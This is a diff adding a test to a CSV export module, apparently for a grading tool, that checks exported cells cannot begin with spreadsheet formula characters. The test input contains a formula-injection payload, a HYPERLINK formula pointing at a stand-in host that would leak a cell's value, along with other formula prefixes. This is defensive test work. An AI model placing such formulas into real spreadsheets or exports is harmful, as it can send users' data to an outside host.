@@ -94,3 +94,11 @@ def test_a_provisional_grade_reaches_no_lms_whatever_the_verdict():
 
 def canvas(finals):
     return list(csv.reader(io.StringIO(to_csv(ROWS["canvas"](LESSON, finals)))))[2:]
+
+
+def test_no_student_writes_a_formula_into_a_spreadsheet():
+    said = 'I measured 512 TFLOP/s ;=HYPERLINK("http://x.example/"&A1;"details"); "=1+1" ; @SUM(A1) and -1; fine'
+    text = to_csv(ROWS["csv"](LESSON, [final(result(LESSON, "ann", state="FAIL", reasons=[said]))]))
+    for separator in ",;\t":
+        cells = [c for row in csv.reader(io.StringIO(text), delimiter=separator) for c in row]
+        assert not [c for c in cells if c.strip(" \"")[:1] in tuple("=+@-")]
